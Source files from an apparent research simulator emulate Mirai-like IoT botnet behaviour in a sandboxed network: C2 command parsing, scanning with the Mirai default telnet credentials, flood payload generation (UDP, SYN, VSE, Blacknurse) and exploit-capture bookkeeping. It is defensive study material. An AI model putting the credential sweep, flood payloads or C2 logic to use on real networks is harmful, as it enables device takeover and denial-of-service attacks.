        c2_conn_->send(profile::wire::encode_pong(*profile_));
        break;
      case profile::Framing::kIrc:
        c2_conn_->send(proto::irc::ping("keepalive").serialize());
        break;
      case profile::Framing::kTlsBeacon:
        c2_conn_->send(util::BytesView{profile_->tls_beacon});
        break;
      case profile::Framing::kP2p:
        break;
    }
    send_keepalive();
  });
}

void MalwareProcess::on_c2_data(util::BytesView data) {
  switch (profile_->framing) {
    case profile::Framing::kBinary: {
      c2_bin_buffer_.insert(c2_bin_buffer_.end(), data.begin(), data.end());
      while (c2_bin_buffer_.size() >= 2) {
        const std::size_t len =
            (static_cast<std::size_t>(c2_bin_buffer_[0]) << 8) | c2_bin_buffer_[1];
        if (len == 0) {  // keepalive echo from the server
          c2_bin_buffer_.erase(c2_bin_buffer_.begin(), c2_bin_buffer_.begin() + 2);
          continue;
        }
        if (c2_bin_buffer_.size() < 2 + len) break;
        const util::BytesView frame{c2_bin_buffer_.data(), 2 + len};
        if (const auto cmd = profile::wire::decode_binary_attack(*profile_, frame)) {
          handle_command(*cmd);
        }
        c2_bin_buffer_.erase(c2_bin_buffer_.begin(),
                             c2_bin_buffer_.begin() + static_cast<std::ptrdiff_t>(2 + len));
      }
      break;
    }
    case profile::Framing::kText:
    case profile::Framing::kIrc: {
      c2_text_buffer_ += util::to_string(data);
      std::size_t nl;
      while ((nl = c2_text_buffer_.find('\n')) != std::string::npos) {
        const std::string line = c2_text_buffer_.substr(0, nl);
        c2_text_buffer_.erase(0, nl + 1);
        if (c2_conn_ == nullptr) return;
        if (profile_->framing == profile::Framing::kText) {
          if (profile::wire::is_ping(*profile_, line)) {
            c2_conn_->send(profile::wire::encode_pong(*profile_));
          } else if (const auto cmd =
                         profile::wire::decode_text_attack(*profile_, line)) {
            handle_command(*cmd);
          }
        } else {  // IRC transport
          const auto msg = proto::irc::parse(line);
          if (!msg) continue;
          if (msg->command == "001") {
            c2_conn_->send(proto::irc::join(profile_->irc_channel).serialize());
          } else if (msg->command == "PING") {
            c2_conn_->send(proto::irc::pong(msg->trailing).serialize());
          } else if (msg->command == "PRIVMSG") {
            // Channel-borne attack orders (text grammar inside the PRIVMSG).
            if (const auto cmd = profile::wire::decode_text_attack(
                    *profile_, msg->trailing + "\n")) {
              handle_command(*cmd);
            }
          }
        }
      }
      break;
    }
    default:
      break;  // tls-beacon dialogue carries no commands in our model
  }
}

void MalwareProcess::handle_command(const proto::AttackCommand& cmd) {
  commands_.push_back(cmd);
  AttackGenOptions opts;
  opts.pps = opts_.attack_pps;
  opts.max_duration = opts_.attack_cap;
  opts.rotate_source_ports = rotate_attack_ports_;
  launch_attack(guest_, cmd, opts, rng_);
}

void MalwareProcess::start_scans() {
  for (std::size_t i = 0; i < spec_.scans.size(); ++i) {
    const auto jitter =
        sim::Duration::seconds(static_cast<std::int64_t>(rng_.uniform(1, 10)));
    guest_.schedule_safe(jitter, [this, i]() {
      run_scan_task(i, spec_.scans[i].target_count);
    });
  }
}

void MalwareProcess::run_scan_task(std::size_t task_idx, std::uint32_t remaining) {
  if (remaining == 0) return;
  const auto& task = spec_.scans[task_idx];
  const net::Endpoint target{random_scan_target(rng_), task.port};

  guest_.tcp_connect(
      target,
      [this, task_idx](sim::ConnectOutcome outcome, sim::TcpConn* conn) {
        if (outcome != sim::ConnectOutcome::kConnected || conn == nullptr) return;
        const auto& task = spec_.scans[task_idx];
        if (task.vuln) {
          const auto& vdb = vulndb::VulnDatabase::instance();
          conn->send(vdb.render_exploit(*task.vuln, spec_.downloader_host,
                                        spec_.loader_name));
        } else {
          // Telnet credential sweep: canonical Mirai dictionary entry.
          conn->send(std::string_view("root\r\nvizxv\r\n"));
        }
        sim::TcpConn* conn_ptr = conn;
        guest_.schedule_safe(sim::Duration::seconds(1), [conn_ptr]() {
          if (conn_ptr->established()) conn_ptr->close();
        });
      },
      sim::Duration::seconds(3));

  const auto gap = sim::Duration::micros(
      static_cast<std::int64_t>(1e6 / spec_.scans[task_idx].pps));
  guest_.schedule_safe(gap, [this, task_idx, remaining]() {
    run_scan_task(task_idx, remaining - 1);
  });
}

void MalwareProcess::start_telemetry() {
  // Benign-looking periodic beacon: resolve, GET, close, repeat. Repeats
  // are what make it *look* like C2 beaconing to a naive classifier.
  dns::resolve(guest_, opts_.resolver, *spec_.telemetry_domain,
               [this](std::optional<net::Ipv4> ip) {
                 if (!ip) return;
                 guest_.tcp_connect(
                     {*ip, 80},
                     [this](sim::ConnectOutcome outcome, sim::TcpConn* conn) {
                       if (outcome == sim::ConnectOutcome::kConnected &&
                           conn != nullptr) {
                         conn->send(std::string_view(
                             "GET /ip HTTP/1.1\r\nhost: telemetry\r\n\r\n"));
                         sim::TcpConn* cp = conn;
                         guest_.schedule_safe(sim::Duration::seconds(2), [cp]() {
                           if (cp->established()) cp->close();
                         });
                       }
                     },
                     opts_.connect_timeout);
               });
  guest_.schedule_safe(sim::Duration::seconds(100), [this]() { start_telemetry(); });
}

void MalwareProcess::start_p2p() {
  guest_.udp_bind(6881, [this](const net::Packet& p) {
    // Answer peer pings so the overlay sees us as alive.
    if (const auto ping = proto::p2p::decode_ping(p.payload)) {
      guest_.udp_send({p.src, p.src_port},
                      proto::p2p::encode_pong({spec_.node_id, ping->txn}), 6881);
    }
  });
  // Periodic bootstrap gossip to every configured peer.
  const auto tick = [this]() {
    std::uint16_t txn = static_cast<std::uint16_t>(rng_.uniform(0, 0xFFFF));
    for (const auto& peer : spec_.p2p_peers) {
      const std::string txn_s{static_cast<char>(txn >> 8), static_cast<char>(txn)};
      guest_.udp_send(peer, proto::p2p::encode_ping({spec_.node_id, txn_s}), 6881);
      ++txn;
    }
  };
  tick();
  // Re-gossip on a fixed interval (bounded only by the run's lifetime —
  // schedule_safe stops firing once the guest host is torn down).
  struct Rearm {
    MalwareProcess* self;
    std::function<void()> tick;
    void operator()() const {
      tick();
      self->guest_.schedule_safe(sim::Duration::seconds(30), Rearm{self, tick});
    }
  };
  guest_.schedule_safe(sim::Duration::seconds(30), Rearm{this, tick});
}

}  // namespace malnet::emu
