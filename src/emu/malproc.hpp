// The malware process: interprets a mal::BehaviorSpec against the simulated
// network, standing in for QEMU-emulated execution of a MIPS binary. All
// behaviour flows through the guest Host's socket API, which is exactly the
// boundary the sandbox interposes on (DESIGN.md §4 "Sandbox boundary =
// socket API").
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "mal/behavior.hpp"
#include "profile/registry.hpp"
#include "proto/attack.hpp"
#include "sim/network.hpp"
#include "util/rng.hpp"

namespace malnet::emu {

struct MalProcOptions {
  net::Endpoint resolver{net::Ipv4{1, 1, 1, 1}, 53};
  /// Profile registry resolving the sample's C2 dialect. Null means the
  /// builtin registry (the compiled-in family behaviour). Not owned.
  const profile::Registry* profiles = nullptr;
  int c2_retry_limit = 2;
  sim::Duration c2_retry_delay = sim::Duration::seconds(20);
  sim::Duration connect_timeout = sim::Duration::seconds(5);
  /// Rate/duration caps forwarded to attack generation.
  double attack_pps = 200.0;
  sim::Duration attack_cap = sim::Duration::seconds(15);
};

/// Runs one malware sample on a guest host. Construct, then start(); the
/// process lives as long as its owner keeps it (the sandbox run owns both
/// the guest host and the process and destroys them together).
class MalwareProcess {
 public:
  MalwareProcess(sim::Host& guest, mal::BehaviorSpec spec, util::Rng rng,
                 MalProcOptions opts = {});
  MalwareProcess(const MalwareProcess&) = delete;
  MalwareProcess& operator=(const MalwareProcess&) = delete;

  void start();

  // --- observable state (used by tests; the pipeline reads captures) -------
  [[nodiscard]] bool aborted_evasion() const { return aborted_; }
  [[nodiscard]] bool c2_established() const { return c2_conn_ != nullptr; }
  [[nodiscard]] int c2_attempts() const { return c2_attempts_; }
  [[nodiscard]] const std::vector<proto::AttackCommand>& commands_received() const {
    return commands_;
  }
  [[nodiscard]] std::optional<net::Endpoint> contacted_c2() const { return contacted_; }

 private:
  void check_internet_then_run();
  void run_main();
  /// Dials `ep`; on failure retries it `attempts_left` more times, then
  /// moves to fallbacks_[next_fallback..], then cycles back to the primary.
  void contact_c2(net::Endpoint ep, int attempts_left, std::size_t next_fallback);
  void on_c2_connected(sim::TcpConn& conn);
  void send_keepalive();
  void on_c2_data(util::BytesView data);
  void handle_command(const proto::AttackCommand& cmd);
  void start_scans();
  void run_scan_task(std::size_t task_idx, std::uint32_t remaining);
  void start_telemetry();
  void start_p2p();
  [[nodiscard]] net::Port fallback_port() const;

  sim::Host& guest_;
  mal::BehaviorSpec spec_;
  util::Rng rng_;
  MalProcOptions opts_;
  const profile::FamilyProfile* profile_ = nullptr;  // set in ctor, never null
  std::vector<net::Endpoint> fallbacks_;  // spec fallback + extra_c2, in order

  bool started_ = false;
  bool aborted_ = false;
  int c2_attempts_ = 0;
  sim::TcpConn* c2_conn_ = nullptr;
  std::optional<net::Endpoint> contacted_;
  std::string c2_text_buffer_;
  util::Bytes c2_bin_buffer_;
  std::vector<proto::AttackCommand> commands_;
  bool rotate_attack_ports_ = true;
};

}  // namespace malnet::emu
