#include "emu/attackgen.hpp"

#include <algorithm>
#include <memory>

namespace malnet::emu {

util::Bytes vse_payload() {
  util::Bytes p{0xFF, 0xFF, 0xFF, 0xFF, 'T'};
  const std::string q = "Source Engine Query";
  p.insert(p.end(), q.begin(), q.end());
  p.push_back(0x00);
  return p;
}

util::Bytes nfo_payload() {
  // Custom marker payload observed against NFOservers infrastructure.
  return util::to_bytes("NFOV6\x01\x02\x03\x04stress");
}

namespace {

/// Shared burst-loop state for one running attack.
struct AttackState {
  proto::AttackCommand cmd;
  AttackGenOptions opts;
  util::Rng rng;
  sim::SimTime end;
  net::Port fixed_src_port = 0;
  util::Bytes std_payload;  // STD: one random string, generated once (§5.1)
  std::function<void()> done;
};

void emit_burst(sim::Host& bot, const std::shared_ptr<AttackState>& st);

void schedule_next(sim::Host& bot, const std::shared_ptr<AttackState>& st) {
  if (bot.now() >= st->end) {
    if (st->done) st->done();
    return;
  }
  bot.schedule_safe(sim::Duration::millis(100),
                    [&bot, st]() { emit_burst(bot, st); });
}

void emit_burst(sim::Host& bot, const std::shared_ptr<AttackState>& st) {
  const int per_burst = std::max(1, static_cast<int>(st->opts.pps / 10.0));
  const auto& target = st->cmd.target;

  for (int i = 0; i < per_burst; ++i) {
    const net::Port src_port = st->opts.rotate_source_ports
                                   ? static_cast<net::Port>(st->rng.uniform(1024, 65535))
                                   : st->fixed_src_port;
    switch (st->cmd.type) {
      case proto::AttackType::kUdpFlood: {
        // Payload is the null byte (§5.1, all three families).
        bot.udp_send(target, util::Bytes{0x00}, src_port);
        break;
      }
      case proto::AttackType::kSynFlood: {
        net::Packet syn;
        syn.dst = target.ip;
        syn.proto = net::Protocol::kTcp;
        syn.src_port = src_port;
        syn.dst_port = target.port;
        syn.flags.syn = true;
        syn.seq = st->rng();
        bot.send_raw(std::move(syn));
        break;
      }
      case proto::AttackType::kTls: {
        // Both observed variants ride datagrams of encoded junk (§5.1 —
        // daddyl33t sends DTLS-ish messages; the Mirai variant's chunked
        // stream is approximated at the packet level).
        util::Bytes hello{0x16, 0x03, 0x03, 0x00, 0x30};
        for (int b = 0; b < 48; ++b) {
          hello.push_back(static_cast<std::uint8_t>(st->rng.uniform(0, 255)));
        }
        bot.udp_send(target, hello, src_port);
        break;
      }
      case proto::AttackType::kStomp: {
        // Post-handshake junk STOMP frames; emitted as raw PSH segments to
        // keep per-packet cost flat at flood rates.
        net::Packet frame;
        frame.dst = target.ip;
        frame.proto = net::Protocol::kTcp;
        frame.src_port = src_port;
        frame.dst_port = target.port;
        frame.flags.psh = true;
        frame.flags.ack = true;
        frame.payload = util::to_bytes("CONNECT\naccept-version:1.2\n\n\x00junk");
        bot.send_raw(std::move(frame));
        break;
      }
      case proto::AttackType::kVse: {
        bot.udp_send(target, vse_payload(), src_port);
        break;
      }
      case proto::AttackType::kStd: {
        bot.udp_send(target, st->std_payload, src_port);
        break;
      }
      case proto::AttackType::kBlacknurse: {
        // ICMP type 3 code 3 (destination/port unreachable) flood.
        bot.icmp_send(target.ip, 3, 3, util::Bytes(28, 0x00));
        break;
      }
      case proto::AttackType::kNfo: {
        bot.udp_send(target, nfo_payload(), src_port);
        break;
      }
    }
  }
  schedule_next(bot, st);
}

}  // namespace

void launch_attack(sim::Host& bot, const proto::AttackCommand& cmd,
                   const AttackGenOptions& opts, util::Rng& rng,
                   std::function<void()> done) {
  auto st = std::make_shared<AttackState>(AttackState{
      cmd, opts, rng.fork("attack"), sim::SimTime{}, 0, {}, std::move(done)});
  const auto commanded = sim::Duration::seconds(cmd.duration_s);
  st->end = bot.now() + std::min(commanded, opts.max_duration);
  st->fixed_src_port = static_cast<net::Port>(st->rng.uniform(1024, 65535));
  if (cmd.type == proto::AttackType::kStd) {
    // One random string generated once, reused for the whole attack.
    std::string s;
    for (int i = 0; i < 32; ++i) {
      s.push_back(static_cast<char>(st->rng.uniform('A', 'Z')));
    }
    st->std_payload = util::to_bytes(s);
  }
  emit_burst(bot, st);
}

}  // namespace malnet::emu
