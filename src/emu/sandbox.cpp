#include "emu/sandbox.hpp"

#include <set>

#include "dns/message.hpp"
#include "ids/engine.hpp"
#include "util/log.hpp"

namespace malnet::emu {

std::string to_string(SandboxMode m) {
  switch (m) {
    case SandboxMode::kObserve: return "observe";
    case SandboxMode::kLive: return "live";
    case SandboxMode::kWeaponized: return "weaponized";
  }
  return "?";
}

void SandboxReport::save_pcap(const std::string& path) const {
  net::PcapWriter w;
  for (const auto& p : capture) w.add(p);
  w.save(path);
}

namespace {
/// The "martian" address the fake DNS resolves everything to. Unregistered
/// on the network, so un-NATed flows toward it simply go dark.
constexpr net::Ipv4 kMartian{10, 99, 7, 7};

struct FlowKey4 {
  std::uint8_t proto;
  net::Port guest_port;
  net::Endpoint peer;
  auto operator<=>(const FlowKey4&) const = default;
};
}  // namespace

// ---------------------------------------------------------------------------

class Sandbox::Run {
 public:
  Run(Sandbox& box, sim::Network& net, std::uint64_t id, net::Ipv4 guest_ip,
      net::Ipv4 victim_ip, mal::MbfBinary content, SandboxOptions opts,
      util::Rng rng, RunCallback done)
      : box_(box),
        id_(id),
        opts_(opts),
        done_(std::move(done)),
        victim_(std::make_unique<Victim>(net, victim_ip, *this)),
        guest_(std::make_unique<sim::Host>(net, guest_ip, "sandbox-guest")) {
    start_sim_us_ = net.now().us;
    report_.parsed = true;

    if (opts_.mode == SandboxMode::kLive) {
      if (!opts_.allowed_c2) throw std::invalid_argument("live mode needs allowed_c2");
      ids_ = std::make_unique<ids::Engine>(ids::containment_policy(*opts_.allowed_c2));
    }

    guest_->set_tap([this](const net::Packet& p, bool outbound) { tap(p, outbound); });
    guest_->set_outbound_filter([this](net::Packet& p) { return filter(p); });
    guest_->set_inbound_rewriter([this](net::Packet& p) { rewrite_inbound(p); });

    MalProcOptions mp;
    mp.profiles = box.cfg_.profiles;
    mp.attack_pps = opts_.attack_pps;
    mp.attack_cap = opts_.attack_cap;
    mp.c2_retry_limit = opts_.c2_retry_limit;
    mp.c2_retry_delay = opts_.c2_retry_delay;
    proc_ = std::make_unique<MalwareProcess>(*guest_, std::move(content.behavior),
                                             std::move(rng), mp);
    proc_->start();

    guest_->schedule_safe(opts_.duration, [this]() { finalize(); });
  }

  /// For unparseable binaries: an empty run that reports failure.
  Run(Sandbox& box, std::uint64_t id, sim::EventScheduler& sched, RunCallback done)
      : box_(box), id_(id), done_(std::move(done)) {
    start_sim_us_ = sched.now().us;
    sched.after(sim::Duration::micros(1), [this]() { finalize(); });
  }

 private:
  friend class Sandbox;

  /// Catch-all fake victim: completes handshakes on redirected scan ports
  /// and records the first payload of each connection (§2.4 handshaker).
  class Victim : public sim::Host {
   public:
    Victim(sim::Network& net, net::Ipv4 ip, Run& run)
        : sim::Host(net, ip, "fake-victim"), run_(run) {}

    void ensure_port(net::Port port) {
      if (tcp_listening(port)) return;
      tcp_listen(port, [this, port](sim::TcpConn& conn) {
        conn.on_data([this, port](sim::TcpConn& c, util::BytesView data) {
          run_.record_exploit(port, c.remote(), data);
        });
      });
    }

   private:
    Run& run_;
  };

  void record_exploit(net::Port port, net::Endpoint guest_peer, util::BytesView data) {
    if (report_.exploits.size() >= 256) return;  // plenty for attribution
    ExploitCapture cap;
    cap.port = port;
    const auto it = orig_dst_by_guest_port_.find(guest_peer.port);
    cap.original_dst = it != orig_dst_by_guest_port_.end() ? it->second.ip : net::Ipv4{};
    cap.payload.assign(data.begin(), data.end());
    report_.exploits.push_back(std::move(cap));
  }

  void tap(const net::Packet& p, bool outbound) {
    if (report_.capture.size() < kCaptureCap) report_.capture.push_back(p);
    if (outbound) {
      ++report_.packets_out;
      report_.activated = true;
      if (p.proto == net::Protocol::kUdp && p.dst_port == 53) {
        if (const auto q = dns::decode(p.payload); q && !q->questions.empty()) {
          report_.dns_queries.push_back(q->questions.front().name);
        }
      }
    } else if (opts_.mode == SandboxMode::kWeaponized && !p.payload.empty() &&
               p.proto == net::Protocol::kTcp && !report_.mitm_engaged) {
      // Inbound data on the hijacked flow (addresses already restored).
      const bool from_hint = opts_.c2_hint && p.src == opts_.c2_hint->ip;
      if (from_hint || p.src == kMartian) {
        report_.mitm_engaged = true;
        report_.mitm_first_data = p.payload;
      }
    }
  }

  void nat_to(net::Packet& p, net::Endpoint to) {
    const net::Endpoint orig{p.dst, p.dst_port};
    const FlowKey4 fwd{static_cast<std::uint8_t>(p.proto), p.src_port, orig};
    nat_forward_[fwd] = to;
    nat_reverse_[FlowKey4{static_cast<std::uint8_t>(p.proto), p.src_port, to}] = orig;
    orig_dst_by_guest_port_[p.src_port] = orig;
    p.dst = to.ip;
    p.dst_port = to.port;
  }

  bool apply_existing_nat(net::Packet& p) {
    const FlowKey4 fwd{static_cast<std::uint8_t>(p.proto), p.src_port,
                       net::Endpoint{p.dst, p.dst_port}};
    const auto it = nat_forward_.find(fwd);
    if (it == nat_forward_.end()) return false;
    p.dst = it->second.ip;
    p.dst_port = it->second.port;
    return true;
  }

  void rewrite_inbound(net::Packet& p) {
    const FlowKey4 rev{static_cast<std::uint8_t>(p.proto), p.dst_port,
                       net::Endpoint{p.src, p.src_port}};
    const auto it = nat_reverse_.find(rev);
    if (it == nat_reverse_.end()) return;
    p.src = it->second.ip;
    p.src_port = it->second.port;
  }

  bool drop(const net::Packet&) {
    ++report_.packets_dropped;
    return false;
  }

  bool filter(net::Packet& p) {
    if (apply_existing_nat(p)) return true;

    // DNS: observe/weaponized modes answer from the wildcard fake.
    if (p.proto == net::Protocol::kUdp && p.dst_port == 53) {
      if (opts_.mode == SandboxMode::kLive) {
        const bool pass = ids_->inspect(p);
        if (!pass) ++report_.packets_dropped;
        return pass;
      }
      nat_to(p, {box_.fake_dns_->addr(), 53});
      return true;
    }

    switch (opts_.mode) {
      case SandboxMode::kObserve: {
        if (p.proto != net::Protocol::kTcp) return drop(p);  // no raw/UDP egress
        // InetSim web fake: connectivity checks against the fake-resolved
        // address succeed (§2.6a).
        if (p.dst == kMartian && p.dst_port == 80) {
          nat_to(p, {box_.fake_http_->addr(), 80});
          return true;
        }
        // Handshaker bookkeeping: count distinct destinations per port, and
        // per-endpoint attempts. Scan sweeps touch each victim once; a
        // *repeated* endpoint is C2-style beaconing and must stay dark —
        // impersonating it would hijack the C2 flow instead of an exploit.
        bool repeat_endpoint = false;
        if (p.flags.syn && !p.flags.ack) {
          auto& seen = distinct_dsts_[p.dst_port];
          seen.insert(p.dst);
          if (seen.size() >= static_cast<std::size_t>(opts_.handshaker_threshold)) {
            redirected_ports_.insert(p.dst_port);
          }
          repeat_endpoint = ++syn_counts_[p.destination()] >= 2;
        }
        if (!repeat_endpoint && redirected_ports_.count(p.dst_port) > 0) {
          victim_->ensure_port(p.dst_port);
          nat_to(p, {victim_->addr(), p.dst_port});
          return true;
        }
        return drop(p);  // dark: C2 candidates show up as unanswered SYNs
      }
      case SandboxMode::kLive: {
        const bool pass = ids_->inspect(p);
        if (!pass) ++report_.packets_dropped;
        return pass;
      }
      case SandboxMode::kWeaponized: {
        if (p.proto != net::Protocol::kTcp || !opts_.mitm_target) return drop(p);
        const bool to_hint = opts_.c2_hint && p.dst == opts_.c2_hint->ip &&
                             p.dst_port == opts_.c2_hint->port;
        if (to_hint || p.dst == kMartian) {
          nat_to(p, *opts_.mitm_target);
          return true;
        }
        return drop(p);
      }
    }
    return drop(p);
  }

  void finalize() {
    if (finalized_) return;
    finalized_ = true;
    if (proc_ != nullptr) {
      report_.evasion_abort = proc_->aborted_evasion();
      report_.commands = proc_->commands_received();
    }
    if (guest_ != nullptr) guest_->close_all_connections();
    // Tear down hosts now; the callback may start new runs immediately.
    proc_.reset();
    guest_.reset();
    victim_.reset();
    box_.note_report(opts_, report_, start_sim_us_);
    RunCallback done = std::move(done_);
    SandboxReport report = std::move(report_);
    box_.release(id_);  // destroys *this; locals above stay valid
    done(report);
  }

  static constexpr std::size_t kCaptureCap = 200000;

  Sandbox& box_;
  std::uint64_t id_;
  SandboxOptions opts_;
  RunCallback done_;
  SandboxReport report_;
  std::unique_ptr<ids::Engine> ids_;
  std::unique_ptr<Victim> victim_;
  std::unique_ptr<sim::Host> guest_;
  std::unique_ptr<MalwareProcess> proc_;
  std::map<FlowKey4, net::Endpoint> nat_forward_;
  std::map<FlowKey4, net::Endpoint> nat_reverse_;
  std::map<net::Port, net::Endpoint> orig_dst_by_guest_port_;
  std::map<net::Port, std::set<net::Ipv4>> distinct_dsts_;
  std::map<net::Endpoint, int> syn_counts_;
  std::set<net::Port> redirected_ports_;
  std::int64_t start_sim_us_ = 0;
  bool finalized_ = false;
};

// ---------------------------------------------------------------------------

Sandbox::Sandbox(sim::Network& net, SandboxConfig cfg)
    : net_(net), cfg_(cfg), rng_(cfg.seed, util::fnv1a64("sandbox")) {
  fake_dns_ = std::make_unique<inetsim::FakeDns>(net_, cfg_.guest_pool.host(2), kMartian);
  fake_http_ = std::make_unique<inetsim::FakeHttp>(net_, cfg_.guest_pool.host(3));
  if (cfg_.obs != nullptr) {
    auto& reg = cfg_.obs->registry;
    m_runs_ = &reg.counter("sandbox_runs");
    m_runs_by_mode_[0] = &reg.counter("sandbox.runs_observe");
    m_runs_by_mode_[1] = &reg.counter("sandbox.runs_live");
    m_runs_by_mode_[2] = &reg.counter("sandbox.runs_weaponized");
    m_unparseable_ = &reg.counter("sandbox.unparseable");
    m_unsupported_arch_ = &reg.counter("sandbox.unsupported_arch");
    m_activated_ = &reg.counter("sandbox.activated");
    m_evasion_aborts_ = &reg.counter("sandbox.evasion_aborts");
    m_exploits_captured_ = &reg.counter("sandbox.exploits_captured");
    m_packets_out_ = &reg.histogram("sandbox.packets_out",
                                    {0, 10, 100, 1000, 10000, 100000});
  }
}

void Sandbox::note_report(const SandboxOptions& opts, const SandboxReport& report,
                          std::int64_t started_sim_us) {
  if (cfg_.obs == nullptr) return;
  if (!report.parsed) {
    m_unparseable_->inc();
  } else if (report.unsupported_arch) {
    m_unsupported_arch_->inc();
  } else {
    if (report.activated) m_activated_->inc();
    if (report.evasion_abort) m_evasion_aborts_->inc();
    m_exploits_captured_->inc(report.exploits.size());
    m_packets_out_->record(static_cast<std::int64_t>(report.packets_out));
  }
  if (cfg_.obs->tracer.enabled()) {
    cfg_.obs->tracer.complete(
        "sandbox:" + to_string(opts.mode), "sandbox", started_sim_us,
        "\"packets_out\":" + std::to_string(report.packets_out) +
            ",\"activated\":" + (report.activated ? "true" : "false"));
  }
}

Sandbox::~Sandbox() = default;

net::Ipv4 Sandbox::martian() const { return kMartian; }

void Sandbox::start(util::BytesView binary, SandboxOptions opts, RunCallback done) {
  if (!done) throw std::invalid_argument("Sandbox::start: null callback");
  ++total_runs_;
  if (m_runs_ != nullptr) {
    m_runs_->inc();
    m_runs_by_mode_[static_cast<int>(opts.mode)]->inc();
  }
  const std::uint64_t id = next_run_id_++;

  auto content = mal::parse(binary);
  if (!content) {
    runs_.emplace(id, std::unique_ptr<Run>(
                          new Run(*this, id, net_.scheduler(), std::move(done))));
    return;
  }
  bool supported = false;
  for (const auto arch : cfg_.supported_archs) supported |= arch == content->arch;
  if (!supported) {
    auto run = std::unique_ptr<Run>(new Run(*this, id, net_.scheduler(), std::move(done)));
    run->report_.parsed = true;
    run->report_.unsupported_arch = true;
    runs_.emplace(id, std::move(run));
    return;
  }

  // Two fresh addresses per run (guest + fake victim), never reused so
  // that concurrent runs cannot collide.
  const net::Ipv4 guest_ip = cfg_.guest_pool.host(next_offset_);
  const net::Ipv4 victim_ip = cfg_.guest_pool.host(next_offset_ + 1);
  next_offset_ += 2;
  if (next_offset_ >= cfg_.guest_pool.size() - 2) {
    throw std::runtime_error("Sandbox: guest pool exhausted");
  }

  runs_.emplace(id, std::unique_ptr<Run>(new Run(
                        *this, net_, id, guest_ip, victim_ip, std::move(*content),
                        opts, rng_.fork("run" + std::to_string(id)), std::move(done))));
}

void Sandbox::release(std::uint64_t id) { runs_.erase(id); }

}  // namespace malnet::emu
