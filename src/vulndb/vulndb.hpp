// The vulnerability & exploit knowledge base: the 12 vulnerabilities of the
// paper's Table 4 (13 entries — the two GPON CVEs share exploit EDB-44576
// and paper row 1), each with metadata, the scan port its exploit targets,
// an *inert* payload template (a labelled HTTP request against the
// vulnerable endpoint — no functional exploit code), and a unique signature
// used by the exploit-attribution matcher.
//
// Also hosts the loader-name catalog behind Figure 9 and the
// vulnerability-database coverage flags behind Q6 ("the more intelligence
// threat sources the better": no single source of NVD/EDB/OpenVAS covers
// all exploited vulnerabilities).
#pragma once

#include <cstdint>
#include <optional>
#include <span>
#include <string>
#include <vector>

#include "net/ipv4.hpp"
#include "util/bytes.hpp"

namespace malnet::vulndb {

enum class VulnId : std::uint8_t {
  kGpon10561,   // CVE-2018-10561 (GPON auth bypass)
  kGpon10562,   // CVE-2018-10562 (GPON command injection)
  kDlinkHnap,   // CVE-2015-2051 (D-Link HNAP1 SOAPAction)
  kZyxel,       // CVE-2017-18368 (ZyXEL P660HN ViewLog)
  kVacron,      // Vacron NVR board.cgi RCE (no CVE)
  kHuaweiHg532, // CVE-2017-17215 (Huawei HG532 UPnP)
  kMvpowerDvr,  // MVPower DVR JAWS shell RCE (no CVE)
  kDir820,      // CVE-2021-45382 (D-Link DIR-820L DDNS)
  kLinksys,     // Linksys E-series tmUnblock.cgi (no CVE)
  kEirD1000,    // Eir D1000 TR-064 WAN-side RCI (no CVE)
  kThinkPhp,    // CVE-2018-20062 (ThinkPHP invokefunction)
  kNuuo,        // CVE-2016-5680 (NUUO NVRmini2)
  kNetlinkGpon, // Netlink GPON formPing RCE (no CVE)
};

inline constexpr std::size_t kVulnCount = 13;

/// vuldb-style remediation status (§4: patches for 3, firewall-only for 5,
/// device replacement for 2 of the CVE-assigned vulnerabilities).
enum class Mitigation : std::uint8_t {
  kOfficialFix,
  kFirewallOnly,
  kReplaceDevice,
  kUnknown,
};

[[nodiscard]] std::string to_string(Mitigation m);
[[nodiscard]] std::string to_string(VulnId id);

struct Vulnerability {
  VulnId id{};
  int paper_row = 0;  // Table 4 "ID" column (1..12; GPON CVEs share row 1)
  std::string name;
  std::optional<std::string> cve;
  std::optional<std::string> exploit_ref;  // EDB-… / OPENVAS:… identifier
  bool in_nvd = false;
  bool in_edb = false;
  bool in_openvas = false;
  int pub_year = 0, pub_month = 0, pub_day = 0;
  std::string target_device;
  net::Port port = 80;  // port the exploit is delivered on
  std::string signature;         // unique substring for attribution
  std::string payload_template;  // with {DL} and {LOADER} placeholders
  Mitigation mitigation = Mitigation::kUnknown;
  double corpus_weight = 1.0;  // calibrated to Table 4 per-vuln sample counts
  int paper_samples = 0;       // Table 4 "# Samples" (for bench comparison)

  /// Publication day on the study timeline (negative = before the study).
  [[nodiscard]] std::int64_t publication_study_day() const;
  /// Age in whole years at study day `at_day`.
  [[nodiscard]] double age_years_at(std::int64_t at_day) const;
};

/// One loader filename with its Figure 9 frequency weight.
struct LoaderInfo {
  std::string name;
  double weight = 1.0;
  /// When set, this loader is preferentially used by that exploit.
  std::optional<VulnId> affinity;
};

class VulnDatabase {
 public:
  /// The process-wide immutable database.
  [[nodiscard]] static const VulnDatabase& instance();

  [[nodiscard]] std::span<const Vulnerability> all() const { return vulns_; }
  [[nodiscard]] const Vulnerability& by_id(VulnId id) const;
  [[nodiscard]] const Vulnerability* by_cve(std::string_view cve) const;

  /// Attributes a captured payload to a vulnerability by signature match;
  /// nullptr if the payload matches nothing known.
  [[nodiscard]] const Vulnerability* match_payload(util::BytesView payload) const;

  /// Renders the (inert) exploit request for a vulnerability against
  /// downloader `dl` using loader filename `loader`.
  [[nodiscard]] std::string render_exploit(VulnId id, const std::string& dl,
                                           const std::string& loader) const;

  /// Extracts the downloader host and loader filename back out of a rendered
  /// exploit payload (what the pipeline does with captured exploits, §3.1).
  struct ExtractedDownloader {
    std::string host;
    std::string loader;
  };
  [[nodiscard]] std::optional<ExtractedDownloader> extract_downloader(
      util::BytesView payload) const;

  [[nodiscard]] const std::vector<LoaderInfo>& loaders() const { return loaders_; }

  /// Distinct delivery ports across all vulnerabilities (scan-port universe).
  [[nodiscard]] std::vector<net::Port> exploit_ports() const;

 private:
  VulnDatabase();
  std::vector<Vulnerability> vulns_;
  std::vector<LoaderInfo> loaders_;
};

}  // namespace malnet::vulndb
