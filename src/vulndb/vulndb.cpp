#include "vulndb/vulndb.hpp"

#include <algorithm>
#include <stdexcept>

#include "util/simtime.hpp"
#include "util/str.hpp"

namespace malnet::vulndb {

std::string to_string(Mitigation m) {
  switch (m) {
    case Mitigation::kOfficialFix: return "official fix";
    case Mitigation::kFirewallOnly: return "firewall only";
    case Mitigation::kReplaceDevice: return "replace device";
    case Mitigation::kUnknown: return "unknown";
  }
  return "?";
}

std::string to_string(VulnId id) {
  switch (id) {
